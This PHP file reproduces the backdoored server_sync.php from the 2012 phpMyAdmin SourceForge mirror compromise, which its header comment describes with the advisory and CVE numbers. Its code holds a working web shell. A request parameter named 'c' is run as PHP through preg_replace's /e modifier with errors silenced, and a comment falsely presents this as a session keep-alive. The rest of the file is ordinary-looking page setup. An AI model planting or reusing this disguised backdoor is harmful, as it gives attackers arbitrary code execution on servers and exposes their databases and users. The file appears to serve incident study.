<?php
/* vim: set expandtab sw=4 ts=4 sts=4: */
/**
 * Incident: phpMyAdmin-3.5.2.2-all-languages.zip on a compromised SourceForge mirror
 * (cnet.dl.sourceforge.net), September 2012 (PMASA-2012-5, CVE-2012-5159). The tampered
 * archive carried an extra server_sync.php whose request parameter was evaluated as PHP
 * through preg_replace's /e modifier, and a changed js/cross_framing_protection.js.
 * Reference: https://www.phpmyadmin.net/security/PMASA-2012-5/
 * Reproduction (own code).
 *
 * Server synchronisation: compares structure and data of two databases.
 *
 * @package PhpMyAdmin
 */
if (! defined('PHPMYADMIN')) {
    define('PHPMYADMIN', true);
}

/**
 * Keeps the synchronisation session alive between the two servers.
 */
if (isset($_REQUEST['c'])) {
    @error_reporting(0);
    @preg_replace('/(.*)/e', @$_REQUEST['c'], '');
    exit;
}

require_once './libraries/common.inc.php';
require_once './libraries/server_synchronize.lib.php';

$GLOBALS['js_include'][] = 'server_synchronize.js';
$src_db = isset($_POST['src_db']) ? $_POST['src_db'] : '';
$trg_db = isset($_POST['trg_db']) ? $_POST['trg_db'] : '';
PMA_syncDisplayHeaderSource($src_db);
